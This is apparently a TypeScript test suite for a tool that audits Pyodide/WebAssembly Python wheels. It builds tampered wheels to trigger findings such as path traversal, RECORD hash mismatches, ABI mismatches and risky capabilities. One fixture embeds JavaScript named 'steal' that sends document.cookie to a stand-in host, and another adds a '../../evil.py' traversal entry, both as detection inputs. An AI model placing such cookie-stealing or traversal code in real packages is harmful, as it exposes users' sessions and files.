// One synthetic input per audit finding: wheels built in memory (some tampered with) holding
// side modules written by the test wasm writer, audited against the bundled Pyodide's real
// manifest (or a variant of it for ABI mismatches).
import { strict as assert } from "node:assert";
import { test } from "node:test";
import { auditTarget, openWheelTarget, type AuditReport } from "../../src/audit/index.js";
import { buildWheel } from "../support/wheel-builder.js";
import { auditModule, auditWheel, bundledManifest, extensionModule, type ExtensionSpec } from "./support.js";

const good = "spam-1.0-cp314-cp314-pyemscripten_2026_0_wasm32.whl";
const so = "spam.cpython-314-wasm32-emscripten.so";

function codes(report: AuditReport): string[] {
  return [...new Set(report.findings.map((f) => f.code))].sort();
}

test("a well-formed wheel with a clean side module has no warnings or errors and loads", async () => {
  const report = await auditWheel(good, { [so]: extensionModule({ functions: ["PyModule_Create2", "PyLong_FromLong"], data: ["PyExc_TypeError"], functionPointers: ["PyObject_Free"] }), "spam_helpers.py": "" });
  assert.deepEqual(report.findings.filter((f) => f.severity !== "info"), []);
  assert.deepEqual(report.verdict, { installs: true, loads: true, links: true, reasons: [] });
  assert.deepEqual(report.wheel, { filename: good, name: "spam", version: "1.0", tags: ["cp314-cp314-pyemscripten_2026_0_wasm32"] });
  assert.equal(report.modules.length, 1);
  assert.equal(report.modules[0]!.initFunction, "PyInit_spam");
  assert.deepEqual(report.topLevelModules, ["spam", "spam_helpers"]);
  assert.ok(report.files.every((f) => /^[0-9a-f]{64}$/.test(f.sha256)));
});

const wheelCases: { name: string; filename?: string; module?: ExtensionSpec; moduleName?: string; options?: Parameters<typeof auditWheel>[2]; expect: string[]; loads: boolean; installs?: boolean }[] = [
  { name: "legacy pyodide_ tag", filename: "spam-1.0-cp314-cp314-pyodide_2026_0_wasm32.whl", expect: ["legacyPlatformTag"], loads: true },
  { name: "legacy emscripten_ tag", filename: "spam-1.0-cp314-cp314-emscripten_5_0_3_wasm32.whl", expect: ["legacyPlatformTag"], loads: true },
  { name: "invalid name", filename: "spam-cp314-pyemscripten_2026_0_wasm32.whl", expect: ["invalidWheelName"], loads: false, installs: false },
  { name: "invalid version in the name", filename: "spam-1.0.x-cp314-cp314-pyemscripten_2026_0_wasm32.whl", expect: ["invalidWheelName"], loads: false, installs: false },
  { name: "build tag without a digit", filename: "spam-1.0-b1-cp314-cp314-pyemscripten_2026_0_wasm32.whl", expect: ["invalidWheelName"], loads: false, installs: false },
  { name: "not a wasm platform", filename: "spam-1.0-cp314-cp314-linux_x86_64.whl", expect: ["incompatibleWithRuntime", "notWasmPlatform"], loads: false, installs: false },
  { name: "older ABI", filename: "spam-1.0-cp313-cp313-pyemscripten_2025_0_wasm32.whl", moduleName: "spam.cpython-313-wasm32-emscripten.so", expect: ["incompatibleWithRuntime", "suffixRuntimePython"], loads: false, installs: false },
  { name: "planned ABI", filename: "spam-1.0-cp315-cp315-pyemscripten_2026_5_wasm32.whl", moduleName: "spam.cpython-315-wasm32-emscripten.so", expect: ["incompatibleWithRuntime", "plannedAbi", "suffixRuntimePython"], loads: false, installs: false },
  { name: "RECORD hash mismatch", options: { alter: ["spam/util.py"] }, expect: ["recordHashMismatch", "recordSizeMismatch"], loads: false, installs: false },
  { name: "file missing from the archive", options: { drop: ["spam/util.py"] }, expect: ["recordMissingFile"], loads: false, installs: false },
  { name: "file missing from RECORD", options: { extra: { "spam/sneaky.py": "import os" } }, expect: ["recordUnlisted"], loads: false, installs: false },
  { name: "no RECORD", options: { noRecord: true }, expect: ["recordMissing"], loads: false, installs: false },
  { name: "path traversal", options: { extra: { "../../evil.py": "x" } }, expect: ["unsafePath"], loads: false, installs: false },
  { name: "WHEEL tags disagree", options: { tag: "cp314-cp314-pyodide_2026_0_wasm32" }, expect: ["wheelTagsDisagree"], loads: true },
  { name: "no dylink.0", module: { dylink: "none" }, expect: ["notSideModule"], loads: false },
  { name: "dylink.0 not first", module: { dylink: "last" }, expect: ["dylinkNotFirst"], loads: false },
  { name: "no PyInit", module: { exportInit: false }, expect: ["missingInitFunction"], loads: false },
  { name: "wrong PyInit", module: { name: "eggs" }, expect: ["missingInitFunction"], loads: false },
  { name: "suffix for another Python", moduleName: "spam.cpython-313-wasm32-emscripten.so", expect: ["suffixPython", "suffixRuntimePython"], loads: false },
  { name: "suffix for another platform", moduleName: "spam.cpython-314-x86_64-linux-gnu.so", expect: ["suffixPlatform"], loads: false },
  { name: "abi3 outside the stable ABI", filename: "spam-1.0-cp312-abi3-pyemscripten_2026_0_wasm32.whl", moduleName: "spam.abi3.so", module: { functions: ["PyModule_Create2", "_PyObject_GetDictPtr", "PyUnicode_AsUTF8"] }, expect: ["abi3Violation"], loads: true },
  { name: "abi3 symbol newer than claimed", filename: "spam-1.0-cp37-abi3-pyemscripten_2026_0_wasm32.whl", moduleName: "spam.abi3.so", module: { functions: ["PyModule_Create2", "PyType_FromModuleAndSpec"] }, expect: ["abi3TooNew"], loads: true },
  { name: "NEEDED missing", module: { needed: ["libmissing.so"] }, expect: ["neededMissing"], loads: false },
  { name: "NEEDED through $ORIGIN", module: { needed: ["libfoo.so"], runtimePaths: ["$ORIGIN/spam.libs"] }, options: { extra: {} }, expect: [], loads: true },
  { name: "NEEDED only by name", module: { needed: ["libbar.so"] }, expect: ["neededOutsideRuntimePath"], loads: true },
  { name: "NEEDED from the runtime's distribution", module: { needed: ["libopenblas.so"] }, expect: ["neededFromRuntime"], loads: true },
  { name: "unresolved data symbol", module: { data: ["PyExc_NoSuchError"] }, expect: ["unresolvedSymbols"], loads: false },
  { name: "unresolved function pointer", module: { functionPointers: ["no_such_function"] }, expect: ["unresolvedSymbols"], loads: false },
  { name: "weak data symbol may stay undefined", module: { data: ["maybe_there"], weak: ["maybe_there"] }, expect: [], loads: true },
  { name: "unresolved function fails only when called", module: { functions: ["PyModule_Create2", "Py_NoSuchFunction"] }, expect: ["unresolvedFunctions"], loads: true },
  { name: "JavaScript exceptions on a wasm-exceptions runtime", module: { functions: ["PyModule_Create2", "invoke_vii", "__cxa_find_matching_catch_2"] }, expect: ["invokeTrampolines", "unwindingMismatch"], loads: true },
  { name: "shared memory", module: { memory: { shared: true } }, expect: ["sharedMemoryMismatch"], loads: false },
  { name: "memory64", module: { memory: { index64: true } }, expect: ["memory64Mismatch"], loads: false },
  { name: "SIMD", module: { code: [0xfd, 12, ...new Array(16).fill(0), 0x1a] }, expect: ["simd"], loads: true },
  { name: "capabilities", module: { functions: ["PyModule_Create2", "__syscall_connect", "system", "dlopen", "fopen", "emscripten_run_script"] }, expect: ["capability.dynamicLoading", "capability.filesystem", "capability.javascript", "capability.network", "capability.processes"], loads: true },
  { name: "embedded JavaScript", module: { emJs: { name: "steal", text: "(void)<::>{ fetch('https://example.invalid/' + document.cookie); }" } }, expect: ["capability.javascript", "embeddedJavaScript"], loads: true },
];

test("each finding is produced by the input made to cause it, and only by it", async () => {
  for (const c of wheelCases) {
    const files: Record<string, string | Uint8Array> = { [`spam/${c.moduleName ?? so}`]: extensionModule(c.module), "spam/__init__.py": "", "spam/util.py": "x = 1\n" };
    if (c.name === "NEEDED through $ORIGIN") files["spam/spam.libs/libfoo.so"] = extensionModule({ exportInit: false });
    if (c.name === "NEEDED only by name") files["other/libbar.so"] = extensionModule({ exportInit: false });
    const report = await auditWheel(c.filename ?? good, files, c.options);
    assert.deepEqual(codes(report), c.expect, c.name);
    assert.equal(report.verdict.loads, c.loads, `${c.name}: loads`);
    assert.equal(report.verdict.installs, c.installs ?? true, `${c.name}: installs`);
  }
});

test("the report's wheel name is normalized as packaging parses it", async () => {
  const report = await auditWheel("Spam_Eggs-01.0_post1-7a-cp314-cp314-pyemscripten_2026_0_wasm32.whl", { [`spam_eggs/${so}`]: extensionModule() });
  assert.deepEqual(report.wheel, {
    filename: "Spam_Eggs-01.0_post1-7a-cp314-cp314-pyemscripten_2026_0_wasm32.whl", name: "spam-eggs", version: "1.0.post1", build: "7a", tags: ["cp314-cp314-pyemscripten_2026_0_wasm32"],
  });
  const invalid = (await auditWheel("spam-1.0.x-cp314-cp314-pyemscripten_2026_0_wasm32.whl", {})).findings.find((f) => f.code === "invalidWheelName");
  assert.match(invalid?.message ?? "", /"1\.0\.x" is not a valid PEP 440 version/);
});

test("a truncated .so is an error finding naming the offset, not a crash", async () => {
  const module = extensionModule();
  const report = await auditWheel(good, { [`spam/${so}`]: module.subarray(0, module.length - 7) });
  const finding = report.findings.find((f) => f.code === "unreadableModule");
  assert.ok(finding, codes(report).join());
  assert.match(finding.message, /offset 0x[0-9a-f]+/);
  assert.equal(report.verdict.loads, false);
});

test("a corrupt entry (CRC-32 of a .so or a file wrong) is an error finding; the rest of the wheel is still audited", async () => {
  for (const victim of [`spam/${so}`, "spam/util.py"]) {
    const bytes = buildWheel(good, { [`spam/${so}`]: extensionModule(), "spam/__init__.py": "", "spam/util.py": "x = 1\n" });
    corruptCentralCrc(bytes, victim);
    const report = await auditTarget(await openWheelTarget(good, bytes), { manifest: await bundledManifest() });
    const finding = report.findings.find((f) => f.code === "unreadableEntry");
    assert.equal(finding?.file, victim);
    assert.match(finding?.message ?? "", /CRC-32 mismatch/);
    assert.deepEqual(codes(report).filter((c) => !c.startsWith("capability")), ["unreadableEntry"], victim);
    assert.equal(report.verdict.installs, false);
    assert.equal(report.files.length, 6);
    assert.equal(report.modules.length, victim.endsWith(".so") ? 0 : 1);
  }
});

test("a library shipped under two names is read once but hashed, checked and audited under both", async () => {
  const library = extensionModule({ exportInit: false });
  const files = { [`spam/${so}`]: extensionModule(), "spam/libfoo.so": library, "spam/libfoo.so.1": library };
  const report = await auditWheel(good, files);
  const hashes = report.files.filter((f) => f.path.startsWith("spam/libfoo")).map((f) => f.sha256);
  assert.equal(hashes.length, 2);
  assert.equal(hashes[0], hashes[1]);
  assert.deepEqual(report.modules.map((m) => m.path).sort(), ["spam/libfoo.so", "spam/libfoo.so.1", `spam/${so}`]);
  assert.deepEqual(report.verdict, { installs: true, loads: true, links: true, reasons: [] });
  // Both copies with the same wrong CRC-32: each is refused on its own.
  const bytes = buildWheel(good, files);
  for (const name of ["spam/libfoo.so", "spam/libfoo.so.1"]) corruptCentralCrc(bytes, name);
  const corrupt = await auditTarget(await openWheelTarget(good, bytes), { manifest: await bundledManifest() });
  assert.deepEqual(corrupt.findings.filter((f) => f.code === "unreadableEntry").map((f) => f.file), ["spam/libfoo.so", "spam/libfoo.so.1"]);
});

/** Flips the CRC-32 recorded for `name` in the zip's central directory. */
function corruptCentralCrc(zip: Uint8Array, name: string): void {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const encoded = new TextEncoder().encode(name);
  for (let at = 0; at + 46 <= zip.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50 || view.getUint16(at + 28, true) !== encoded.length) continue;
    if (encoded.every((byte, index) => zip[at + 46 + index] === byte)) {
      view.setUint32(at + 16, view.getUint32(at + 16, true) ^ 1, true);
      return;
    }
  }
  throw new Error(`no central directory entry for ${name}`);
}

test("embedded JavaScript is extracted as text", async () => {
  const text = "(int x)<::>{ return eval('1+' + x); }";
  const report = await auditModule(so, extensionModule({ emJs: { name: "add", text } }));
  assert.deepEqual(report.modules[0]!.embeddedJavaScript, [{ kind: "EM_JS", name: "add", signature: "(int x)", body: "{ return eval('1+' + x); }" }]);
});

test("wasm exception tags are a mismatch on a runtime with JavaScript unwinding", async () => {
  const real = await bundledManifest();
  const jsRuntime = { ...real, version: "0.27-like", tags: [], features: { ...real.features, exceptions: "javascript" as const, longjmp: "javascript" as const } };
  const report = await auditModule(so, extensionModule({ tags: ["__cpp_exception", "__c_longjmp"] }), jsRuntime);
  const mismatches = report.findings.filter((f) => f.code === "unwindingMismatch");
  assert.equal(mismatches.length, 2);
  assert.ok(mismatches.every((f) => f.effect === "load"));
  assert.equal(report.verdict.loads, false);
});
